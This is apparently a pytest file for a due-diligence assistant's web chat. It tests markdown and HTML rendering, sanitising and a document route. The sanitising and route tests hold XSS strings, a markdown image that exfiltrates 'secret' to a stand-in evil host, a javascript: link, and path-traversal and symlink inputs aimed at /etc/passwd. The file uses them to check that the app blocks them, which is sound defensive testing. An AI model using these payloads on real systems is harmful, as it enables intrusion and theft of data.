"""Response and render functions of the web chat, and the document route, without a browser."""

from __future__ import annotations

import importlib
import os
from pathlib import Path
from types import ModuleType

import pytest

from assistant.errors import QuestionError
from assistant.settings import PROJECT_ROOT, Settings
from assistant.types import Answer, Citation, ObligationHit, Scenario, ScreeningHit
from assistant.web import ui as webui


def import_app() -> ModuleType:
    """The web app module (`assistant.web.server`; the top-level `app.py` only re-exports it)."""
    return importlib.import_module("assistant.web.server")


def make_answer(question: str = "May we sell thermal cameras to a distributor in Dubai for Iran?") -> Answer:
    """A hand-built answer with a law, a standard and a digest citation."""
    return Answer(
        question=question,
        answer="An authorisation is needed [1]. Carry out due diligence [2, 3]. Unknown marker [9].",
        citations=[
            Citation(n=1, source_id="eu-359-2011", title="Council Regulation (EU) No 359/2011", kind="law",
                     locator="Article 1a(1)", quote="It shall be prohibited to sell equipment <b>listed</b> in Annex III.",
                     chunk_id="eu-359-2011:1", url="https://eur-lex.europa.eu/eli/reg/2011/359/oj", file="eu-reg-359-2011.md"),
            Citation(n=2, source_id="ungps", title="UN Guiding Principles", kind="standard", locator="Principle 17",
                     page="17", quote="Business enterprises should carry out human rights due diligence.",
                     chunk_id="ungps:17", url="https://www.ohchr.org/x.pdf", file="ungps-2011.pdf", page_number=25),
            Citation(n=3, source_id="oecd-ddg-digest", title="OECD Due Diligence Guidance — project digest", kind="digest",
                     locator="Step 2", quote="Scope the operations.", chunk_id="oecd:2",
                     url="https://mneguidelines.oecd.org/ddg.pdf", file="bundled:digests/oecd-dd-guidance-2018.md"),
        ],
        scenario=Scenario(products=["thermal_camera"], destinations=["IR"], parties=["Tehran Smart City Co"],
                          is_scenario=True, missing=["the end user"]),
        obligations=[
            ObligationHit(id="ir-1", source_id="eu-359-2011", provision="Article 1a(1)", kind="law", binding="binding",
                          group="law", title="Check the equipment bans", summary="Annex III items may not go to Iran.",
                          actions=["Classify the product"], confidence="high", citations=[1]),
            ObligationHit(id="rf-1", source_id="oecd-ddg-digest", provision="Step 2", kind="digest", binding="red flag",
                          group="red-flags", title="Unknown end user", summary="", confidence="medium", citations=[3]),
            ObligationHit(id="ungp-17", source_id="ungps", provision="Principle 17", kind="standard",
                          binding="expected", group="standards", title="Human rights due diligence", summary="",
                          confidence="high", citations=[2]),
        ],
        screening=[ScreeningHit(query="Tehran Smart City Co", name="Tehran Smart City Company", score=0.91,
                                source_id="eu-359-2011", locator="Annex I — entities, entry 19", listed_on="2023-04-24",
                                quote="Tehran Smart City Company.")],
        engine="grounded",
        corpus_version="c1",
    )


def make_refusal() -> Answer:
    return Answer(
        question="What is the capital of France?", answer="", refused=True,
        refusal_reason="No passage is about this.",
        related=[Citation(n=1, source_id="ungps", title="UN Guiding Principles", kind="standard", locator="Principle 1",
                          quote="States must protect.", chunk_id="ungps:1", file="ungps-2011.pdf", page_number=11)],
    )


# ---------------------------------------------------------------- citations and evidence


def test_citation_markers_link_to_the_evidence_panel() -> None:
    md = webui.render_answer_markdown(make_answer(), "k1")
    assert "An authorisation is needed [[1]](#ev-k1-1)." in md
    assert "Carry out due diligence [[2]](#ev-k1-2), [[3]](#ev-k1-3)." in md
    assert "Unknown marker [9]." in md
    assert md.startswith("**⚠ Possible sanctions listing match: Tehran Smart City Company** — see the screening box.")


def test_evidence_card_html_exact() -> None:
    html = webui.render_evidence_html(make_answer(), "k1")
    assert html.startswith('<div class="dd-evidence"><h3>Evidence</h3>')
    assert (
        '<article class="dd-cite" id="ev-k1-2"><div class="dd-cite-head"><span class="dd-n">[2]</span> '
        '<span class="dd-badge dd-kind-standard">standard</span></div><div class="dd-src">UN Guiding Principles</div>'
        '<div class="dd-where"><span class="dd-loc">Principle 17</span> · <span class="dd-page">p. 17</span></div>'
        '<blockquote class="dd-quote"><mark>Business enterprises should carry out human rights due diligence.</mark>'
        '</blockquote><div class="dd-open"><a href="/source/ungps-2011.pdf#page=25" target="_blank" '
        'rel="noopener noreferrer">Open the document at page 25</a></div>'
    ) in html
    # quotes from documents are escaped
    assert "<mark>It shall be prohibited to sell equipment &lt;b&gt;listed&lt;/b&gt; in Annex III.</mark>" in html
    assert '<span class="dd-badge dd-kind-law">law</span>' in html
    assert '<a href="/source/eu-reg-359-2011.md" target="_blank" rel="noopener noreferrer">Open the document</a>' in html


def test_digest_says_verify_against_official_text() -> None:
    html = webui.render_evidence_html(make_answer(), "k1")
    assert '<span class="dd-badge dd-kind-digest">project digest</span>' in html
    assert (
        '<div class="dd-digest-note">project digest — verify against the official text at '
        '<a href="https://mneguidelines.oecd.org/ddg.pdf" target="_blank" rel="noopener noreferrer">'
        "https://mneguidelines.oecd.org/ddg.pdf</a></div>"
    ) in html
    assert 'href="/source/bundled:digests/oecd-dd-guidance-2018.md"' in html


def test_checklist_grouped_in_fixed_order() -> None:
    html = webui.render_checklist_html(make_answer(), "k1")
    law = html.index("<h4>The law requires</h4>")
    std = html.index("<h4>Standards expect</h4>")
    red = html.index("<h4>Red flags</h4>")
    assert law < std < red
    assert (
        '<li class="dd-item"><span class="dd-box" aria-hidden="true">☐</span> <strong>Check the equipment bans</strong>'
        ' <span class="dd-prov">Article 1a(1)</span> <span class="dd-binding">binding</span> '
        '<a href="#ev-k1-1">[1]</a><div class="dd-summary">Annex III items may not go to Iran.</div>'
        '<ul class="dd-actions"><li>Classify the product</li></ul></li>'
    ) in html


def test_screening_hits_at_the_top_with_entry_and_date() -> None:
    panel = webui.render_side_panel(make_answer(), "k1")
    assert panel.startswith('<div class="dd-screening dd-alert" role="alert"><h3>⚠ Possible sanctions listing match</h3>')
    assert (
        '<div class="dd-where"><span class="dd-loc">Annex I — entities, entry 19</span> · listed on 2023-04-24</div>'
    ) in panel
    assert panel.index("dd-screening") < panel.index("dd-evidence") < panel.index("dd-checklist")


def test_refusal_looks_different_and_marks_related_passages() -> None:
    answer = make_refusal()
    md = webui.render_answer_markdown(answer, "r1")
    assert md == (
        "**The sources here do not cover this.**\n\nNo passage is about this.\n\n"
        "Nearby passages are listed beside the chat, marked *related — not an answer*."
    )
    html = webui.render_evidence_html(answer, "r1")
    assert '<p class="dd-refusal">The sources here do not cover this.</p>' in html
    assert '<article class="dd-cite dd-related" id="ev-r1-1">' in html
    assert '<span class="dd-related-tag">related — not an answer</span>' in html


# ---------------------------------------------------------------- sanitising


def test_quote_with_script_and_exfiltrating_image_renders_inert() -> None:
    evil = "Text <script>alert(1)</script> ![x](http://evil/?q=secret) [click](https://evil.example/p) end"
    answer = make_answer()
    answer.answer = evil + " [1]"
    answer.citations[0].quote = evil
    md = webui.render_answer_markdown(answer, "k")
    assert "<script" not in md
    assert "](http" not in md and "![" not in md
    assert "&lt;script>alert(1)&lt;/script>" in md
    assert "x `http://evil/?q=secret`" not in md  # the image's URL is dropped, not shown
    assert "Text &lt;script>alert(1)&lt;/script> x click end [[1]](#ev-k-1)" in md
    html = webui.render_evidence_html(answer, "k")
    assert "<script" not in html
    assert "&lt;script&gt;alert(1)&lt;/script&gt; ![x](http://evil/?q=secret)" in html
    assert 'src="http' not in html and 'href="http://evil' not in html and 'href="https://evil' not in html


@pytest.mark.parametrize(
    ("raw", "expected"),
    [
        ("see <img src=x onerror=alert(1)>", "see &lt;img src=x onerror=alert(1)>"),
        ("[a [b] c](http://evil/x)", "[a [b] c]\\(`http://evil/x)`"),
        ("[ok](#ev-a-1) and [doc](/source/x.pdf#page=2)", "[ok](#ev-a-1) and [doc](/source/x.pdf#page=2)"),
        ("[up](/../etc/passwd)", "up"),
        ("[1]: http://evil/track\n", "\\[1\\]: `http://evil/track`\n"),
        ("visit www.evil.com now", "visit `www.evil.com` now"),
        ("<http://evil/auto>", "&lt;`http://evil/auto`>"),
        ("![a](x)![b](y)", "ab"),
        ("[j](javascript:alert(1))", "j"),
        ("R&D", "R&amp;D"),
    ],
)
def test_sanitize_markdown(raw: str, expected: str) -> None:
    assert webui.sanitize_markdown(raw) == expected


def test_html_fields_stay_on_one_line() -> None:
    answer = make_answer()
    answer.citations[0].quote = "line one\n\n![x](http://evil/)\nline two"
    html = webui.render_evidence_html(answer, "k")
    assert "\n" not in html
    assert "line one<br><br>![x](http://evil/)<br>line two" in html


# ---------------------------------------------------------------- scenario form, filters, API input


def test_compose_question_from_the_form() -> None:
    q = webui.compose_question(
        product="thermal-imaging camera", capabilities=["thermal imaging", "night vision"], destination="Iran",
        buyer="distributor in Dubai", end_user="", channel="through a distributor / reseller", stage="contracting",
        parties="Tehran Smart City Co", question="",
    )
    assert q == (
        "Scenario — Product: thermal-imaging camera; Capabilities: thermal imaging, night vision; Destination: Iran; "
        "Buyer: distributor in Dubai; Sales channel: through a distributor / reseller; Stage: contracting.\n"
        "Named parties: Tehran Smart City Co\nWhat must we check or do before going ahead, and what are the red flags?"
    )
    assert webui.compose_question(question="  Just a question ") == "Just a question"


def test_build_filters() -> None:
    assert webui.build_filters([], None) is None
    assert webui.build_filters(["law"], ["EU"]) == {"kinds": ["law"], "jurisdictions": ["EU"]}


def test_parse_history_json() -> None:
    assert webui.parse_history_json("") is None
    assert webui.parse_history_json('[{"role": "user", "content": "hi"}]') == [{"role": "user", "content": "hi"}]
    with pytest.raises(QuestionError, match="not valid JSON"):
        webui.parse_history_json("[")
    with pytest.raises(QuestionError, match="history item 0"):
        webui.parse_history_json('[{"role": "system", "content": "x"}]')


# ---------------------------------------------------------------- one chat turn


def fake_iter_ask(calls: list[tuple[str, object]]):
    def _iter(question, history, settings, *, engine=None, filters=None):
        calls.append((question, history, engine, filters))
        answer = make_answer(question)
        for word in ["An ", "authorisation ", "<b>is</b> ", "needed [1]."]:
            yield word
        yield answer

    return _iter


def test_respond_streams_then_renders_and_passes_history(tmp_path: Path) -> None:
    calls: list = []
    it = fake_iter_ask(calls)
    views = list(webui.respond("First?", [], None, iter_ask=it, settings=None, engine="grounded",
                               filters={"kinds": ["law"]}, log_answer=lambda a, q: "id1"))
    assert views[0].messages[-1] == {"role": "assistant", "content": "…"}
    assert views[2].messages[-1]["content"] == "An authorisation  ▌"
    assert views[3].messages[-1]["content"] == "An authorisation &lt;b>is&lt;/b>  ▌"
    last = views[-1]
    assert last.done and last.key == "id1"
    assert last.messages[0] == {"role": "user", "content": "First?"}
    assert "[[1]](#ev-id1-1)" in last.messages[-1]["content"]
    assert 'id="ev-id1-1"' in last.panel_html
    assert calls[0] == ("First?", None, "grounded", {"kinds": ["law"]})
    # a follow-up passes the earlier turn as history (raw text, not rendered markdown)
    views2 = list(webui.respond("And then?", last.messages, last.state, iter_ask=it, settings=None,
                                log_answer=lambda a, q: "id2"))
    assert calls[1][1] == [
        {"role": "user", "content": "First?"},
        {"role": "assistant", "content": make_answer().answer},
    ]
    assert len(views2[-1].messages) == 4
    assert views2[-1].state.message_keys == {1: "id1", 3: "id2"}


def test_respond_shows_assistant_error_without_traceback() -> None:
    from assistant.errors import IndexError_

    def failing(question, history, settings, *, engine=None, filters=None):
        yield "partial"
        raise IndexError_("The index is missing. Run `ddassist index` first.")

    views = list(webui.respond("Q?", [], None, iter_ask=failing, settings=None))
    assert views[-1].messages[-1] == {
        "role": "assistant",
        "content": "**Cannot answer:** The index is missing. Run `ddassist index` first.",
    }

    def buggy(question, history, settings, *, engine=None, filters=None):
        raise RuntimeError("secret internal detail")
        yield  # pragma: no cover

    views = list(webui.respond("Q?", [], None, iter_ask=buggy, settings=None))
    assert "secret internal detail" not in views[-1].messages[-1]["content"]
    assert "Traceback" not in views[-1].messages[-1]["content"]


# ---------------------------------------------------------------- document route


@pytest.fixture(scope="module")
def client(tmp_path_factory: pytest.TempPathFactory):
    from starlette.testclient import TestClient

    app_module = import_app()
    tmp_path = tmp_path_factory.mktemp("route")
    docs = tmp_path / "docs"
    docs.mkdir()
    (docs / "law.md").write_text("# Article 1\nText.", encoding="utf-8")
    (docs / "page.html").write_text("<script>alert(1)</script>", encoding="utf-8")
    (docs / ".hidden.md").write_text("x", encoding="utf-8")
    outside = tmp_path / "secret.md"
    outside.write_text("SECRET", encoding="utf-8")
    os.symlink(outside, docs / "link.md")
    settings = Settings(documents_dir=docs, data_dir=tmp_path / "data", index_dir=tmp_path / "index")

    def fake_iter(question, history, settings, *, engine=None, filters=None):
        yield make_answer(question)

    server = app_module.create_server(
        settings, iter_ask=fake_iter, ask=lambda q, h, s, **kw: make_answer(q), engines=["grounded"],
    )
    with TestClient(server) as c:
        yield c


def test_document_route_serves_documents_with_security_headers(client) -> None:
    r = client.get("/source/law.md")
    assert r.status_code == 200
    assert r.text == "# Article 1\nText."
    assert r.headers["content-type"] == "text/plain; charset=utf-8"
    assert r.headers["x-content-type-options"] == "nosniff"
    assert r.headers["x-frame-options"] == "DENY"
    assert r.headers["referrer-policy"] == "no-referrer"
    assert "frame-ancestors 'none'" in r.headers["content-security-policy"]
    # scraped HTML is shown as text, never run on this origin
    assert client.get("/source/page.html").headers["content-type"] == "text/plain; charset=utf-8"
    if (PROJECT_ROOT / "corpus" / "digests").is_dir() and any((PROJECT_ROOT / "corpus" / "digests").glob("*.md")):
        name = sorted((PROJECT_ROOT / "corpus" / "digests").glob("*.md"))[0].name
        assert client.get(f"/source/bundled:digests/{name}").status_code == 200


@pytest.mark.parametrize(
    "path",
    [
        "../secret.md",
        "..%2Fsecret.md",
        "%2e%2e/secret.md",
        "sub/../../secret.md",
        "%2Fetc%2Fpasswd",
        "/etc/passwd",
        "link.md",
        ".hidden.md",
        "missing.md",
        "bundled:../sources.yaml",
        "bundled:register/x.md",
        "bundled:..%2F..%2Fapp.py",
        "bundled:/etc/passwd",
    ],
)
def test_document_route_rejects_traversal(client, path: str) -> None:
    r = client.get(f"/source/{path}")
    assert r.status_code == 404
    assert "SECRET" not in r.text


def test_page_has_security_headers(client) -> None:
    r = client.get("/")
    assert r.status_code == 200
    csp = r.headers["content-security-policy"]
    assert "default-src 'self'" in csp and "frame-ancestors 'none'" in csp and "unsafe-eval" not in csp
    assert r.headers["x-frame-options"] == "DENY"


def _verdict_answer() -> Answer:
    from assistant.types import BottomLine

    text = "## Bottom line\n\n**Prohibited — do not proceed.**\n- Art 1a(1) [1]\n\n### Details\n\n- Destination: IR\n\n### Sources\n[1] x"
    return make_answer().model_copy(update={"answer": text, "bottom_line": BottomLine(verdict="prohibited", text="**Prohibited — do not proceed.**\n- Art 1a(1) [1]", decisive=[1])})


def test_chat_answer_shows_the_verdict_badge_and_folds_the_details() -> None:
    from assistant.web import ui

    rendered = ui.render_answer_markdown(_verdict_answer(), "k1")
    assert rendered.index('<span class="dd-verdict dd-verdict-prohibited">Prohibited</span>') < rendered.index("do not proceed")
    assert rendered.index("<details>") > rendered.index("do not proceed") and "Destination: IR" in rendered.split("<details>")[1]


def test_workshop_reveal_puts_own_answer_beside_the_bottom_line() -> None:
    from assistant.web import ui

    html_text = ui.render_reveal_html("Stop <b>the</b> sale", _verdict_answer())
    assert html_text.startswith('<div class="dd-reveal"><div class="dd-reveal-own"><h4>Your answer</h4><p>Stop &lt;b&gt;the&lt;/b&gt; sale</p>')
    assert '<div class="dd-bl dd-bl-prohibited"><span class="dd-verdict dd-verdict-prohibited">Prohibited</span>' in html_text
    assert "<ul><li>Art 1a(1) [1]</li></ul>" in html_text
    assert "Destination: IR" not in html_text
